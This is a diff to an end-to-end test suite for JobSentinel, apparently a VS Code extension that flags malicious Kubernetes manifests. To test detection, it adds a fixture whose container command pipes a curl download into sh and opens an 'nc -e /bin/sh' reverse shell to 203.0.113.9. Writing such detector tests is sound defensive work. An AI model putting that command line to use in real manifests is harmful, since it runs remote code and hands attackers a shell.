@@ -54,9 +54,29 @@ async function problemCounts(): Promise<string> {
 /** The workspace's config: the image finding becomes a hint, which the Problems counts leave out. */
 const WORKSPACE_CONFIG = 'severity:\n  attacker-tooling: hint\n';
 
+/** A Job in a subfolder that no test opens: only the workspace-wide scan can put its finding in Problems. */
+const NEVER_OPENED = 'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: node-debug\nspec:\n  template:\n    spec:\n      containers:\n        - name: debug\n          image: registry.example.com/tools/debug:1.4\n          securityContext:\n            privileged: true\n';
+
+/** One command line, four findings over the same string: a download piped into a shell, and nc -e. */
+const MULTI = [
+  'apiVersion: batch/v1',
+  'kind: Job',
+  'metadata:',
+  '  name: multi',
+  'spec:',
+  '  template:',
+  '    spec:',
+  '      containers:',
+  '        - name: x',
+  '          image: registry.example.com/tools/runner:1.0',
+  '          command: ["sh", "-c", "curl -s http://203.0.113.9/x.sh | sh; nc -e /bin/sh 203.0.113.9 4444"]',
+  '',
+].join('\n');
+
 /** What the Problems item should count for the fixture, by the core under the workspace's config. */
-function expectedCounts(text: string): { errors: number; warnings: number; infos: number } {
-  const { findings } = analyseManifest(text, 'cronjob.yaml', { config: parseConfig(WORKSPACE_CONFIG, '.jobsentinel.yaml').config });
+function expectedCounts(...texts: string[]): { errors: number; warnings: number; infos: number } {
+  const config = parseConfig(WORKSPACE_CONFIG, '.jobsentinel.yaml').config;
+  const findings = texts.flatMap((text) => analyseManifest(text, 'cronjob.yaml', { config }).findings);
   const count = (severity: string) => findings.filter((finding) => finding.severity === severity).length;
   return { errors: count('error'), warnings: count('warning'), infos: count('information') };
 }
@@ -103,6 +123,8 @@ for (const [host, { settings, runsIn }] of Object.entries(HOSTS)) describe(`the 
     await copyFile(join(FIXTURES, 'deployment.yaml'), join(workspace, 'deployment.yaml'));
     await copyFile(join(FIXTURES, 'audit-sample.log'), join(workspace, 'audit.log'));
     await writeFile(join(workspace, '.jobsentinel.yaml'), WORKSPACE_CONFIG);
+    await mkdir(join(workspace, 'jobs/nightly'), { recursive: true });
+    await writeFile(join(workspace, 'jobs/nightly/never-opened-job.yaml'), NEVER_OPENED);
     server = await startCodeServer({ workspace, settings: { ...SETTINGS, ...settings }, installVsix: VSIX });
     browser = await launchChromium({ viewport: { width: 1400, height: 900 } });
     page = browser.page;
@@ -117,11 +139,23 @@ for (const [host, { settings, runsIn }] of Object.entries(HOSTS)) describe(`the 
     if (workspace) await rm(workspace, { recursive: true, force: true });
   });
 
+  // The web-worker server has no file system to walk: there, only open files are checked.
+  if (host === 'desktop') {
+    it('puts the finding of a manifest that was never opened into the Problems panel (workspace scope)', async () => {
+      await page.keyboard.press('Control+Shift+M');
+      const row = page.locator('.markers-panel .monaco-list-row', { hasText: 'never-opened-job.yaml' });
+      await row.waitFor({ timeout: 90_000 });
+      await page.locator('.markers-panel .monaco-list-row', { hasText: 'runs privileged' }).first().waitFor({ timeout: 15_000 });
+      await screenshot('00-workspace-scan');
+      await page.keyboard.press('Control+Shift+M');
+    });
+  }
+
   it('flags the malicious CronJob: problem count, status bar and the hover on the squiggle', async () => {
     const text = await readFile(join(FIXTURES, 'reverse-shell-cronjob.yaml'), 'utf8');
     await page.locator('.explorer-folders-view .monaco-list-row', { hasText: 'cronjob.yaml' }).click();
     await page.locator('.monaco-editor .view-lines').first().waitFor();
-    const expected = expectedCounts(text);
+    const expected = host === 'desktop' ? expectedCounts(text, NEVER_OPENED) : expectedCounts(text);
     assert.equal(expected.infos, 0, 'the workspace config turned the information finding into a hint');
     await page.waitForFunction(
       ({ errors, warnings }) => {
@@ -258,6 +292,31 @@ for (const [host, { settings, runsIn }] of Object.entries(HOSTS)) describe(`the 
       await rm(join(workspace, 'large-audit.log'));
     });
   }
+
+  it('keeps the hover short when several findings share a spot: one line each, details behind links', async () => {
+    await writeFile(join(workspace, 'multi.yaml'), MULTI);
+    await page.keyboard.press('Control+P');
+    const input = page.locator('.quick-input-widget input');
+    await input.waitFor({ state: 'visible' });
+    await input.fill('multi.yaml');
+    await page.locator('.quick-input-widget .monaco-list-row', { hasText: 'multi.yaml' }).first().waitFor({ timeout: 15_000 });
+    await page.keyboard.press('Enter');
+    await page.locator('.tab.active', { hasText: 'multi.yaml' }).waitFor({ timeout: 15_000 });
+    await goTo(11, 50);
+    const hover = page.locator('.monaco-hover:visible', { hasText: 'findings here' });
+    // The diagnostics arrive a moment after the file opens: ask for the hover until it shows them.
+    for (let attempt = 0; attempt < 20 && !(await hover.isVisible()); attempt++) {
+      await page.keyboard.press('Control+K');
+      await page.keyboard.press('Control+I');
+      await hover.waitFor({ timeout: 1_500 }).catch(() => undefined);
+    }
+    const text = (await hover.textContent()) ?? '';
+    assert.match(text, /JobSentinel: 4 findings here/);
+    assert.equal((text.match(/details/g) ?? []).length, 4, text);
+    assert.doesNotMatch(text, /Why it matters|False positives/);
+    await screenshot('11-compact-hover');
+    await page.keyboard.press('Escape');
+  });
 
   it(`ran in the ${host} extension host`, async () => {
     await runCommand('Developer: Show Running Extensions');
